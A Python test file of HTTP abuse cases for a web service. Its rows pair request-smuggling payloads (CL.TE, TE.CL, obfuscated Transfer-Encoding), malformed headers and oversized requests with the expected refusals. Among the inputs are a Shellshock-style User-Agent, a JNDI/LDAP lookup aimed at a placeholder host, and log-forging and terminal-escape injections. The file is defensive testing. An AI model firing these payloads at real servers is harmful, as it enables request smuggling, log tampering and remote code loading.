"""Where a request begins and ends: what could be read in two ways, what is no HTTP, what is too much."""

from __future__ import annotations

from tests.service.abuse.row import HEALTH, HOST, MARK, Row, get, post, request

TE, CHUNKED = "Transfer-Encoding", "Transfer-Encoding: chunked"
END = "0\r\n\r\n"  # the last chunk


def length(of: str) -> str:
    return f"Content-Length: {len(of)}"


_TWO = "two lengths: refused, or one is dropped and the connection ends with the answer"
_BAD_TE = "a coding that is not exactly `chunked`; from an ALB, by its documentation, a 501"
_BAD_LENGTH = "a length is digits, once (RFC 9112, 6.3)"
_UNREAD = "a body is never read: the answer comes before it, and closes the connection"
_NAME = "a header name is a token, and a colon follows it (RFC 9112, 5.1)"
_LINE = "a request line is three words with one space between (RFC 9112, 3)"

SMUGGLING = [
    Row("CL.TE", post(length(END + HEALTH), CHUNKED, body=END + HEALTH), "400", "400|405", _TWO),
    Row("CL.TE, TE first", post(CHUNKED, length(END + HEALTH), body=END + HEALTH), "400", "400|405", _TWO),
    Row("CL.TE by GET", get("/now", length(END + HEALTH), CHUNKED, body=END + HEALTH), "400", "400|200", _TWO),
    Row("CL 0 and TE", post("Content-Length: 0", CHUNKED, body=END + HEALTH), "400", "400|405", _TWO),
    Row("TE.CL", post("Content-Length: 4", CHUNKED, body=f"{len(HEALTH):x}\r\n{HEALTH}\r\n{END}"), "400", "400|405", _TWO),
    Row("TE.TE, the second unknown", post(CHUNKED, f"{TE}: x", body=END + HEALTH), "400", "400|501", _BAD_TE),
    Row("TE.TE, the first unknown", post(f"{TE}: x", CHUNKED, body=END + HEALTH), "400", "400|422|501", _BAD_TE),
    *(
        Row(f"{TE}: {value!r}", post(f"{TE}:{value}", "Content-Length: 4", body=END + HEALTH), "400", "400|422|501", _BAD_TE)
        for value in (
            " xchunked", " chunked-zq9", " chunked, identity", " chunked, chunked", " identity, chunked", " gzip, chunked",
            " \x0bchunked", " chunked\x00", ' "chunked"', " chunked;q=1", " ,chunked", " cow", " chunk\xe9d",
        )
    ),
    Row("TE of a tab", post(f"{TE}:\tchunked", body=END + HEALTH), "405", "405 404|405|400", "a tab is white space too"),
    Row("TE in capitals", post(f"{TE}: CHUNKED", body=END + HEALTH), "405", "405 404|405", "codings know no case"),
    Row("TE with a space before the colon", post(f"{TE} : chunked", "Content-Length: 4", body=END + HEALTH), "400", "400", _NAME),
    Row("TE with an underscore", post("Transfer_Encoding: chunked", "Content-Length: 5", body=END), "405", "405", "dropped"),
    Row("TE behind a bare LF", post("X: y\nTransfer-Encoding: chunked", "Content-Length: 5", body=END), "400", "400|405", _TWO),
    Row("TE behind a bare CR", post("X: y\rTransfer-Encoding: chunked", "Content-Length: 5", body=END), "400", "400", _NAME),
    Row("TE in HTTP/1.0", request("POST /now HTTP/1.0", CHUNKED, body=END + HEALTH), "400", "400|405", "1.0 has no chunks"),
    Row("CL twice, the same", post("Content-Length: 5", "Content-Length: 5", body="hello" + HEALTH), "400", "400|405|405 404", _BAD_LENGTH),
    Row("CL twice, different", post("Content-Length: 5", "Content-Length: 0", body="hello" + HEALTH), "400", "400", _BAD_LENGTH),
    Row("CL as a list", post("Content-Length: 5, 5", body="hello" + HEALTH), "400", "400|405|405 404", _BAD_LENGTH),
    *(
        Row(f"CL of {value!r}", post(f"Content-Length: {value}", body="hello" + HEALTH), "400", "400", _BAD_LENGTH)
        for value in ("+5", "-5", "-0", "0x5", "5 5", "5.0", "5e0", "5;", "5\x00", "\xb2", "1_0", "9" * 5000, "zq9")
    ),
    Row("CL of nothing", post("Content-Length:", body="hello" + HEALTH), "400", "400", _BAD_LENGTH),
    Row("CL beyond 64 bits", post("Content-Length: 99999999999999999999", body="x"), "405", "400|405", _UNREAD),
    Row("CL of a GET", get("/now", "Content-Length: 5", body="hello" + HEALTH), "200", "200 404|200", _UNREAD),
    Row("CL too small", post("Content-Length: 1", body=HEALTH), "405", "405 400|405 404|405", _UNREAD),
    *(
        Row(f"a chunk of size {size!r}", post(CHUNKED, body=f"{size}\r\nhello\r\n{END}{HEALTH}"), "405", "400|405|405 400|405 404", _UNREAD)
        for size in ("zz", "-5", "0x5", "+5", " 5", "5 ", "f" * 17, "5;" + "x" * 9000, "5;a=\nb", "5\n", "")
    ),
    Row("a chunk with an extension", post(CHUNKED, body=f"5;a=b\r\nhello\r\n{END}{HEALTH}"), "405", "405 404|405", _UNREAD),
    Row("a trailer", post(CHUNKED, body=f"0\r\nHost: zq9\r\nContent-Length: 9\r\n\r\n{HEALTH}"), "405", "405 404|405", _UNREAD),
    Row("a chunk without its end", post(CHUNKED, body="5\r\nhelloX" + HEALTH), "405", "400|405|405 400", _UNREAD),
    Row("a request inside of a body", post(length(HEALTH), body=HEALTH), "405", "405", _UNREAD),
    Row("two requests at once", get("/now") + get("/now"), "200 200", "200 200", "pipelining is HTTP; and two are seen"),
    Row("/health behind /now", get("/now") + HEALTH.encode(), "200 200", "200 404", "each is looked at for itself"),
    Row("/health behind a refused one", get("/nowhere") + HEALTH.encode(), "404 200", "404 404", "as above"),
    Row("/health behind an upgrade", get("/now", "Connection: Upgrade", "Upgrade: websocket") + HEALTH.encode(), "400 200", "400 404|400", "no tunnel"),
]  # fmt: skip

_FORM = "a head that is no HTTP is refused (RFC 9112, 2.2)"

HEADS = [
    Row("a folded header", get("/now", "X: a\r\n b"), "400", "200|400", "obsolete: refused, or unfolded (RFC 9112, 5.2)"),
    Row("a folded first header", request("GET /now HTTP/1.1", host=f" {HOST}"), "400", "400", "nothing to continue"),
    Row("lines that end with LF", b"GET /now HTTP/1.1\nHost: x\n\n", "400", "200|400", "a recipient may take LF for CR LF"),
    Row("lines that end with CR", b"GET /now HTTP/1.1\rHost: x\r\r", "open|400", "400", _FORM),
    Row("lines that end with LF CR", b"GET /now HTTP/1.1\n\rHost: x\n\r\n\r", "400", "400", _FORM),
    Row("an empty line before", b"\r\n" + get("/now"), "200", "200", "one is to be ignored (RFC 9112, 2.2)"),
    Row("a thousand empty lines", b"\r\n" * 1000, "400", "400|open", _FORM),
    *(
        Row(f"a header {line[:30]!r}", get("/now", line), "400", "400", _NAME)
        for line in (
            "X : y", "X\t: y", ": y", "X", "X Y: z", "X\x00: y", "X\xff: y", "X: a\x00b", "X: a\rb", "(X): y", f"{MARK}: y",
            "X\x7f: y",
        )
    ),
    *(
        Row(f"a header {line[:30]!r}", get("/now", line), "400", "200|400", "a control character in a value (RFC 9110, 5.5)")
        for line in ("X: a\x0bb", "X: a\x1b[31mb", "X: a\x7fb", "X: \x01")
    ),
    *(
        Row(f"a header {line[:30]!r}", get("/now", line), "200", "200", "harmless, and of no effect")
        for line in (
            "X_Y: z", "SCRIPT_NAME: /zq9", "PATH_INFO: /health", "X: \xff\xfe\xc0\xae", f"X: {MARK}", f"Cookie: a={MARK}",
            f"User-Agent: {MARK} () {{ :; }}; echo zq9", f"Referer: http://{MARK}", "Content-Encoding: gzip",
            "X-Original-URL: /health", "X-Rewrite-URL: /health", "X-HTTP-Method-Override: DELETE", "Range: bytes=0-3",
            f"X-Forwarded-Host: {MARK}", f"X-Forwarded-Prefix: /{MARK}", f"Forwarded: for={MARK};host={MARK}",
            f"X-Forwarded-For: {MARK}", f"X-Forwarded-Proto: {MARK}", f"Origin: http://{MARK}", "If-None-Match: *",
            "Authorization: Basic enE5OnpxOQ==", "X: ${jndi:ldap://zq9.example/}", "Proxy: http://zq9.example/",
        )
    ),
    Row("words with two spaces between", request("GET  /now HTTP/1.1"), "400", "400|200", _LINE),
    Row("words with tabs between", request("GET\t/now\tHTTP/1.1"), "400", "400|200", _LINE),
    Row("a space at the start", request(" GET /now HTTP/1.1"), "400", "400", _LINE),
    Row("a space at the end", request("GET /now HTTP/1.1 "), "400", "400|200", _LINE),
    Row("a fourth word", request("GET /now /health HTTP/1.1"), "400", "400", _LINE),
    Row("a CR in the target", request("GET /now\rFORGED HTTP/1.1"), "400", "400", "nor can it forge a line of a log"),
    Row("a NUL in the target", request("GET /now\x00 HTTP/1.1"), "400", "400", _LINE),
    Row("an escape in the target", request("GET /\x1b[2J HTTP/1.1"), "400", "400", "nor can it paint on a terminal"),
    Row("a request that never ends", b"GET /no", "open", "open", "cut off after 10 s, and by the balancer after 60"),
    Row("a head that never ends", b"GET /now HTTP/1.1\r\nHost: x\r\n", "open", "open", "as above"),
    Row("a body that never comes", post("Content-Length: 9"), "405", "405", _UNREAD),
    Row("a chunk that never comes", post(CHUNKED, body="9\r\n"), "405", "405", _UNREAD),
    Row("Expect: 100-continue", post("Expect: 100-continue", "Content-Length: 9"), "100 405", "100 405|405", _UNREAD),
    Row("Expect: zq9", get("/now", "Expect: zq9"), "417", "417|200", "the one expectation there is, is 100-continue"),
]  # fmt: skip

SIZES = [
    Row("a target of 5 KB", get("/now?" + "x" * 5_000), "414", "414", "4094 bytes of request line are plenty"),
    Row("a target of 20 KB", get("/now?" + "x" * 20_000), "414", "414|400", "an ALB takes 16 K"),
    Row("a target of 100 KB", get("/now?" + "x" * 100_000), "414|closed", "414|400", "and HAProxy 64 K"),
    Row("10,000 parameters", get("/now?" + "a=1&" * 10_000), "414", "414|400", "as above"),
    Row("2,000 parameters", get("/now?" + "a&" * 2_000), "200", "200", "as many as fit into a request line are no trouble"),
    Row("2,000 time zones", get("/now?" + "tz&" * 1_300), "400", "400", "given more than once"),
    Row("a header of 10 KB", get("/now", "X: " + "x" * 10_000), "431", "431", "8190 bytes each are plenty"),
    Row("a header of 100 KB", get("/now", "X: " + "x" * 100_000), "431|closed", "431|400", "HAProxy takes 64 K in all"),
    Row("a header without an end", b"GET /now HTTP/1.1\r\nX: " + b"x" * 2_000_000, "431|closed", "400|closed", "the buffer has an end"),
    Row("a header name of 10 KB", get("/now", "X" * 10_000 + ": y"), "431", "431|400", "as above"),
    Row("99 headers", get("/now", *["X: y"] * 99), "200", "200|431|400", "100 are taken; a balancer adds some"),
    Row("1,000 headers", get("/now", *["X: y"] * 1_000), "431", "431|400", "100 are plenty"),
    Row("10,000 headers", get("/now", *["X: y"] * 10_000), "431|closed", "431|400|closed", "as above"),
    Row("an Accept of 8 KB", get("/now", "Accept: " + "text/plain;q=0.1, " * 440), "200", "200", "read in no time"),
    Row("POST of 10 MB", post("Content-Length: 10000000", body="x" * 10_000_000), "405|closed", "405|closed", _UNREAD),
    Row("GET of 10 MB", get("/now", "Content-Length: 10000000", body="x" * 10_000_000), "200|closed", "200|closed", _UNREAD),
    Row("chunks of 10 MB", post(CHUNKED, body="80000\r\n" + "x" * 0x80000 + "\r\n" + "1\r\nx\r\n" * 1_600_000), "405|closed", "405|closed", _UNREAD),
]  # fmt: skip
